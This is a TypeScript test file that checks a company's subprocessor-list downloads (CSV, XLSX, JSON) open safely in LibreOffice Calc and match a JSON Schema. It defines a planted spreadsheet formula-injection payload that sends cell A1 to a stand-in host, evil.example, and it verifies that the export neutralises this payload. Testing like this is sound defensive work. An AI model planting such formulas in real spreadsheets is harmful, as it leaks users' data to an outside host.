/** The downloads, opened by the programs procurement uses: LibreOffice Calc and a JSON Schema validator. */
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { promisify } from 'node:util';
import Ajv2020 from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  ROOT,
  buildFixture,
  cells,
  epochOf,
  libreoffice,
  prepareFixture,
  EXAMPLE,
} from './helpers';

const run = promisify(execFile);
const PLANTED = '=HYPERLINK("http://evil.example/steal?"&A1,"Click for details")';

// CSV filter: comma, double quote, UTF-8, from line 1, …, and token 13 "evaluate formulas" on,
// so anything that could run as a formula would.
const CSV_EVALUATING = 'CSV:44,34,76,1,,1033,false,false,false,false,false,-1,true';

describe('downloads in LibreOffice Calc', () => {
  let dir: string;
  let dist: string;

  beforeAll(async () => {
    dir = await prepareFixture('downloads', 'formulas');
    const result = await buildFixture(dir, { SOURCE_DATE_EPOCH: epochOf('2026-11-20') });
    expect(result.code, result.output).toBe(0);
    dist = path.join(dir, 'dist');
    await mkdir(path.join(dir, 'lo'), { recursive: true });
  });

  it('opens both CSVs with one row per recipient or activity and the planted formula as text', async () => {
    for (const file of ['subprocessors.csv', 'subprocessor-activities.csv']) {
      const xlsx = await libreoffice(
        path.join(dist, file),
        'xlsx',
        path.join(dir, 'lo'),
        CSV_EVALUATING,
      );
      const [sheet] = await cells(xlsx);
      expect(sheet!.rows, file).toHaveLength(1 + 3); // header + eu-host, us-mailer, evil-vendor: one activity each
      expect(sheet!.rows[0]![0]!.value).toBe('Processor');
      expect(sheet!.rows.flat().filter((c) => c.formula)).toEqual([]);
      const names = sheet!.rows.map((r) => r[0]!.value);
      expect(names).toContain(`'${PLANTED}`);
      // The processors file numbers each activity, so only the activities file starts a cell with it.
      expect(sheet!.rows.flat().map((c) => c.value)).toEqual(
        expect.arrayContaining(
          file === 'subprocessors.csv'
            ? ["'+31 Vendor B.V."]
            : ["'+31 Vendor B.V.", "'@SUM(1+1) and -2+3 must stay text too."],
        ),
      );
    }
  });

  it('would have run the formula without the neutralising apostrophe (the check can fail)', async () => {
    const control = path.join(dir, 'lo', 'control.csv');
    await writeFile(control, `Processor\r\n"${PLANTED.replace(/"/g, '""')}"\r\n`);
    const [sheet] = await cells(
      await libreoffice(control, 'xlsx', path.join(dir, 'lo'), CSV_EVALUATING),
    );
    expect(sheet!.rows[1]![0]!.formula).toBe(true);
  });

  it('opens the XLSX with a title sheet and five lists, frozen headers, sized columns and no formulas', async () => {
    const sheets = await cells(path.join(dist, 'subprocessors.xlsx'));
    expect(sheets.map((s) => s.name)).toEqual([
      'About',
      'Processors',
      'Activities',
      'Transfers',
      'Chain',
      'Changes',
    ]);
    const lists = sheets.slice(1);
    expect(lists.every((s) => s.frozen)).toBe(true);
    expect(lists[0]!.widths.every((w) => (w ?? 0) >= 6)).toBe(true);
    expect(lists[0]!.rows).toHaveLength(4);
    expect(lists[1]!.rows).toHaveLength(1 + 3);
    expect(lists[2]!.rows).toHaveLength(1 + 1); // the US transfer of us-mailer
    expect(lists[3]!.rows).toHaveLength(1); // no chain recorded
    expect(lists[4]!.rows).toHaveLength(1 + 1);

    // Round-trip through LibreOffice, as a reviewer saving a copy would.
    // The Processors sheet, the second: CSV filter options, token 12 names the sheet.
    const csv = await libreoffice(
      path.join(dist, 'subprocessors.xlsx'),
      'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,2',
      path.join(dir, 'lo'),
    );
    const text = await readFile(csv, 'utf8');
    expect(text.split('\n').filter(Boolean)).toHaveLength(4);
    expect(text).toContain(
      `"'=HYPERLINK(""http://evil.example/steal?""&A1,""Click for details"")"`,
    );
    expect(sheets.flatMap((sh) => sh.rows.flat()).filter((c) => c.formula)).toEqual([]);
    await mkdir(path.join(dir, 'lo', 'resaved'), { recursive: true });
    const resaved = await cells(
      await libreoffice(
        path.join(dist, 'subprocessors.xlsx'),
        'xlsx',
        path.join(dir, 'lo', 'resaved'),
      ),
    );
    expect(resaved.flatMap((sh) => sh.rows.flat()).filter((c) => c.formula)).toEqual([]);
    expect(resaved[1]!.rows.map((r) => r[0]!.value)).toContain(`'${PLANTED}`);
  });

  it('keeps the exact text in the JSON, which validates against the published JSON Schema', async () => {
    const doc = JSON.parse(await readFile(path.join(dist, 'subprocessors.json'), 'utf8'));
    const schema = JSON.parse(
      await readFile(path.join(dist, 'schema/subprocessors.schema.json'), 'utf8'),
    );
    const ajv = new Ajv2020({ allErrors: true, strict: false });
    addFormats.default(ajv);
    const validate = ajv.compile(schema);
    expect(validate(doc), JSON.stringify(validate.errors)).toBe(true);
    expect(doc.processors.map((p: { name: string }) => p.name)).toContain(PLANTED);
    expect(doc.$schema).toBe('https://trust.fixture.example/schema/subprocessors.schema.json');
    // And the validator rejects a broken document, so the check above means something.
    expect(validate({ ...doc, processors: [{ ...doc.processors[0], role: 'vendor' }] })).toBe(
      false,
    );
  });

  it('lists every download in SHA256SUMS with its real hash', async () => {
    const sums = await readFile(path.join(dist, 'SHA256SUMS'), 'utf8');
    const files = sums
      .trim()
      .split('\n')
      .map((line) => line.split('  ')[1]);
    expect(files).toEqual(
      expect.arrayContaining([
        'subprocessors.csv',
        'subprocessors.xlsx',
        'subprocessors.json',
        'subprocessors.jsonld',
        'schema/subprocessors.schema.json',
        'changes.rss',
      ]),
    );
    await run('sha256sum', ['-c', '--quiet', 'SHA256SUMS'], { cwd: dist });
  });
});

describe('the example workbook printed by LibreOffice', () => {
  const out = path.join(ROOT, 'tests/.out/workbook-pdf');
  let pages: string[];
  let dist: string;

  beforeAll(async () => {
    await rm(out, { recursive: true, force: true });
    dist = path.join(out, 'dist');
    const built = await buildFixture(
      out,
      { SOURCE_DATE_EPOCH: epochOf('2026-11-20') },
      { content: EXAMPLE, out: dist },
    );
    expect(built.code, built.output).toBe(0);
    const pdf = await libreoffice(path.join(dist, 'subprocessors.xlsx'), 'pdf', out);
    const { stdout } = await run('pdfinfo', [pdf]);
    const count = Number(/^Pages:\s+(\d+)/m.exec(stdout)![1]);
    pages = await Promise.all(
      Array.from({ length: count }, async (_, i) => {
        const page = String(i + 1);
        return (await run('pdftotext', ['-layout', '-f', page, '-l', page, pdf, '-'])).stdout;
      }),
    );
  });

  it('prints a title page, then each sheet one page wide, numbered', () => {
    // The title page; the 22 recipients on three pages and their 25 activities on two (their
    // retention notes and other facts printed in full); the 20 transfers, with their notes, on
    // two; the four chains on one; the change log on one.
    expect(pages).toHaveLength(10);
    expect(pages.map((text) => /^\s*(\S+)/.exec(text)![1])).toEqual([
      'Klimaatmeter:',
      ...Array<string>(8).fill('Processor'),
      'Change',
    ]);
    pages.forEach((text, i) =>
      expect(text, `page ${i + 1}`).toMatch(
        new RegExp(`\\b${i + 1}\\s*/\\s*${pages.length}\\s*$`, 'm'),
      ),
    );
  });

  it('says on page 1 whose list it is, as of when, and the checksum of the JSON beside it', async () => {
    const first = pages[0]!;
    expect(first).toContain('Klimaatmeter: processors and sub-processors as of 2026-11-20');
    expect(first).toMatch(/Publisher\s+Klimaatmeter B\.V\./);
    expect(first).toMatch(/The list as of\s+2026-11-20/);
    const json = await readFile(path.join(dist, 'subprocessors.json'));
    expect(first).toContain(createHash('sha256').update(json).digest('hex'));
  });

  it('prints the Processors sheet within the width of the page, its header on every page', () => {
    const processors = pages.filter((text) => /^\s*Processor\s+Legal entity/m.test(text));
    expect(processors.length).toBeGreaterThanOrEqual(2);
    for (const text of processors) {
      // The first and the last printed column on the same page: nothing ran onto another page.
      const header = text.split('\n').slice(0, 4).join('\n');
      expect(header).toMatch(/^\s*Processor\s+Legal entity\s+Entity country\s+Role/m);
      expect(header).toMatch(/Status\s*$/m);
    }
    // Every recipient is printed; the columns for tools are not.
    const printed = processors.join('\n');
    for (const name of ['Amazon S3', 'Google Workspace', 'Sentry', 'Vimeo', 'Tax authorities'])
      expect(printed).toContain(name);
    expect(pages.join('\n')).not.toContain('Processor id');
  });
});
